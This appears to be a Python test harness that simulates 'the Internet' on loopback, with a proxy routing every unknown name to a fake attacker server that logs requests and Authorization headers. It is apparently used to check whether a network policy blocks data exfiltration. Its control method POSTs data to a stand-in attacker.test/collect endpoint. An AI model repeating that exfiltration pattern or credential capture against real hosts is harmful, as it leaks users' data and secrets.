"""The world outside, for the second act: named servers with TLS, all of them on this machine.

A company's proxy (`[network] proxy` in the policy) stands for the Internet. Whatever name it is asked
for, it leads to one of two servers here: the association's own, or, for every other name, the
attacker's. So the program asks for real names with `https`, and no packet leaves the loopback.
The servers' certificates come from an authority made here, which the policy names (`[network] ca`).
"""

from __future__ import annotations

import json
import socket
import ssl
import threading
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from company import certificates, serve_proxy

OWN, ATTACKER = "office.test", "attacker.test"


class Server(ThreadingHTTPServer):
    """Answers each request, and counts it."""

    daemon_threads = True

    def __init__(self, context: ssl.SSLContext) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.requests: Counter[str] = Counter()
        self.keys: set[str] = set()
        self.socket = context.wrap_socket(
            self.socket, server_side=True, do_handshake_on_connect=False
        )
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_: Any) -> None:
        """A client that goes away is no news."""


class Handler(BaseHTTPRequestHandler):
    server: Server
    protocol_version = "HTTP/1.1"

    def answer(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.requests[f"{self.command} {self.path}"] += 1
        self.server.keys.add(self.headers.get("Authorization", ""))
        body = json.dumps({"EUR_GBP": "0.8431"}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = answer

    def log_message(self, *_: object) -> None:
        """Silence: the demo's own screen says what arrived."""


class World:
    """Both servers, and the proxy in front of them. `asked` is what the proxy was asked for."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir(mode=0o755)
        self.ca = folder / "company.pem"
        context = certificates(folder, self.ca, (OWN, ATTACKER))
        self.own, self.attacker = Server(context), Server(context)
        self.asked: list[str] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.proxy = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(
            target=serve_proxy, args=(self._listener, self._lookup, self.asked), daemon=True
        ).start()

    def attacker_answers(self) -> bool:
        """The control: is it there for somebody who is not held back, and would it have counted?"""
        import requests

        before = self.attacker.requests.total()
        got = requests.post(
            f"https://{ATTACKER}/collect",
            data=b"control",
            proxies={"https": self.proxy},
            verify=str(self.ca),
            timeout=20,
        )
        return got.ok and self.attacker.requests.total() == before + 1

    def _lookup(self, target: str) -> tuple[str, int]:
        server = self.own if target.startswith(f"{OWN}:") else self.attacker
        return "127.0.0.1", server.server_port
